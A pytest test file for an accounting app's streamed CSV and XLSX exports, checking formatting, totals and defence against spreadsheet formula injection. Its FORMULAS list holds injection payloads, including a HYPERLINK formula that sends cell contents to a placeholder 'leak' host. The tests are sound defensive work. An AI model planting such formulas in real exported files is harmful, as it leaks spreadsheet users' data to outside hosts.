"""Every book downloads: CSV streamed row by row (UTF-8 with BOM), XLSX that opens with the numbers
the page shows, money formatted #,##0.00."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from flask.testing import FlaskClient

from market.books import exports
from tests.factories import PASSWORD


@pytest.fixture
def downloads(app, accountant):
    """An accountant's client that reads a streamed body in the request's own context.

    (The isolating test client runs each request in a separate ``contextvars`` context, which a
    generator wrapped in ``stream_with_context`` cannot leave; a server never does that.)"""
    client = FlaskClient(app, app.response_class, use_cookies=True)
    response = client.post("/login", data={"phone": accountant.phone, "password": PASSWORD})
    assert response.status_code == 302
    return client


def read_xlsx(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    return workbook.active


def test_csv_response_streams_one_row_at_a_time(app):
    produced = []

    def rows():
        for n in range(3):
            produced.append(n)
            yield (f"行{n}", Decimal(n) / 4)

    with app.test_request_context():
        response = exports.csv_response("测试.csv", ("名称", "金额"), rows())
        assert response.is_streamed and produced == []  # nothing is built before it is sent
        chunks = list(response.response)
    assert produced == [0, 1, 2] and len(chunks) == 4
    text = "".join(chunks)
    assert text.startswith("\ufeff名称,金额\r\n") and "行2,0.50" in text
    assert "filename*=UTF-8''%E6%B5%8B%E8%AF%95.csv" in response.headers["Content-Disposition"]


def test_xlsx_response_writes_numbers_with_money_format(app):
    with app.test_request_context():
        response = exports.xlsx_response("t.xlsx", "表", ("科目", "金额", "重量"),
                                         [("1002", Decimal("1234.50"), exports.weight(Decimal("200.000")))],
                                         totals=("合计", Decimal("1234.50"), None))
    sheet = read_xlsx(response)
    assert [c.value for c in sheet[1]] == ["科目", "金额", "重量"]
    assert sheet["B2"].value == 1234.5 and sheet["B2"].number_format == "#,##0.00"
    assert sheet["C2"].number_format == "#,##0.000" and sheet["B3"].font.bold


def test_the_trial_balance_downloads_as_csv_and_xlsx(downloads, all_posted):
    client = downloads
    response = client.get("/books/trial-balance?period=2026-08&format=csv")
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["科目编码", "科目名称", "期初借方"]
    revenue = next(r for r in rows if r[0] == "5001")
    total = all_posted.settlement.sale_net
    assert revenue[5] == f"{total:.2f}"
    assert rows[-1][0] == "合计" and rows[-1][4] == rows[-1][5]
    sheet = read_xlsx(client.get("/books/trial-balance?period=2026-08&format=xlsx"))
    assert sheet["A1"].value == "科目余额表 2026-08"
    values = list(sheet.iter_rows(min_row=3, values_only=True))
    revenue = next(r for r in values if r[0] == "5001")
    assert Decimal(str(revenue[5])) == total
    assert values[-1][0] == "合计" and values[-1][4] == values[-1][5]


def test_statements_ledgers_vouchers_and_ageing_download(downloads, all_posted, zhang):
    client = downloads
    line = next(l for l in all_posted.settlement.households if l.household_id == zhang.id)
    sheet = read_xlsx(client.get(f"/books/households?household_id={zhang.id}&from=2026-01-01&to=2026-12-31"
                                 "&format=xlsx"))
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert Decimal(str(rows[-1][-1])) == line.net - Decimal("600")
    assert any(r[1] == "交售结算" and Decimal(str(r[8])) == line.gross for r in rows)
    text = client.get(f"/books/households?household_id={zhang.id}&format=csv").get_data(as_text=True)
    assert f"{line.net - Decimal('600'):.2f}" in text.splitlines()[-1]
    ledger_csv = client.get(f"/books/ledger?account=2202&party_id={zhang.id}&from=2026-01&to=2026-12&format=csv")
    assert ledger_csv.is_streamed
    last = list(csv.reader(io.StringIO(ledger_csv.get_data(as_text=True).lstrip("\ufeff"))))[-1]
    assert last[2] == "本期合计" and last[6] == "贷" and last[7] == f"{line.net - Decimal('600'):.2f}"
    vouchers = read_xlsx(client.get("/books/vouchers?period=2026-08&format=xlsx"))
    assert vouchers.max_row > 3
    buyer_id = all_posted.settlement.buyer_id
    assert client.get(f"/books/buyers?buyer_id={buyer_id}&as_of=2026-12-31&format=csv").is_streamed
    ageing = read_xlsx(client.get("/books/ageing?as_of=2026-12-31&format=xlsx"))
    assert ageing["A4"].value == "合计"
    assert Decimal(str(ageing["G4"].value)) == all_posted.settlement.buyer_total - Decimal("1000")


FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_text_that_starts_like_a_formula_is_plain_text_in_csv(app):
    rows = [(text, Decimal("-12.50")) for text in FORMULAS]
    lines = list(csv.reader(io.StringIO("".join(exports.csv_rows(("摘要", "金额"), rows)).lstrip("\ufeff"))))
    assert [line[0] for line in lines[1:]] == ["'" + text for text in FORMULAS]
    assert [line[1] for line in lines[1:]] == ["-12.50"] * len(FORMULAS)  # amounts stay numbers


def test_text_that_starts_like_a_formula_is_a_string_cell_in_xlsx(app):
    texts = FORMULAS[:-1]  # (XML turns a carriage return into a line feed)
    rows = [(text, Decimal("-12.50")) for text in texts]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes("凭证", ("摘要", "金额"), rows))).active
    cells = [row for row in sheet.iter_rows(min_row=2) if row[0].value in texts]
    assert len(cells) == len(texts)
    assert all(row[0].data_type == "s" for row in cells)  # never "f" (a formula)
    assert all(row[1].data_type == "n" for row in cells)


def test_a_voucher_summary_typed_as_a_formula_downloads_as_text(downloads, books, reviewer):
    from datetime import date

    from market.ledger import services as ledger
    from models import User, db
    accountant = db.session.scalar(db.select(User).where(User.name == "赵会计"))
    voucher = ledger.prepare_voucher(accountant, voucher_date=date(2026, 8, 3), summary=FORMULAS[0],
                                     lines=[ledger.LineInput("1002", debit="10.00"),
                                            ledger.LineInput("3001", credit="10.00")],
                                     idempotency_key="formula")
    db.session.commit()
    text = downloads.get("/books/vouchers?period=2026-08&format=csv").get_data(as_text=True)
    assert "'" + FORMULAS[0].replace('"', '""') in text
    sheet = read_xlsx(downloads.get("/books/vouchers?period=2026-08&format=xlsx"))
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULAS[0])
    assert cell.data_type == "s" and voucher.id
